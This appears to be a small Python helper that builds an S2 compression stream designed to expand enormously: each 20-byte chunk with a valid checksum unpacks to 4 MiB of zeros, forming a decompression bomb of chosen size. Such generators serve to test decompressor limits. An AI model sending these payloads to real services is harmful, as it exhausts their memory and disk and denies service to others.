"""A small S2 stream that unpacks to very much (github.com/klauspost/compress/tree/master/s2)."""

from __future__ import annotations

UNPACKED_BYTES = 4 << 20  # of each chunk, the format's maximum
REPEAT_BASE = 65_540  # what a repeat with three bytes of length adds to them


def _masked_crc32c_of_zeros(count: int) -> int:
    table = []
    for value in range(256):
        for _ in range(8):
            value = (value >> 1) ^ (0x82F63B78 if value & 1 else 0)
        table.append(value)
    crc = 0xFFFFFFFF
    for _ in range(count):
        crc = (crc >> 8) ^ table[crc & 255]
    crc ^= 0xFFFFFFFF
    return (((crc >> 15) | (crc << 17)) + 0xA282EAD8) & 0xFFFFFFFF


def _uvarint(value: int) -> bytes:
    out = bytearray()
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def zeros_chunk() -> bytes:
    """Some twenty bytes for 4 MiB of zeros: a literal, a short copy of it, and one long repeat."""
    rest = UNPACKED_BYTES - 1 - 4 - REPEAT_BASE
    body = _uvarint(UNPACKED_BYTES) + b"\x00\x00\x01\x01\x1d\x00" + rest.to_bytes(3, "little")
    crc = _masked_crc32c_of_zeros(UNPACKED_BYTES).to_bytes(4, "little")
    return b"\x00" + (len(body) + 4).to_bytes(3, "little") + crc + body


def s2_bomb(chunks: int) -> bytes:
    """A stream that unpacks to `chunks` times 4 MiB of zeros."""
    return b"\xff\x06\x00\x00S2sTwO" + zeros_chunk() * chunks
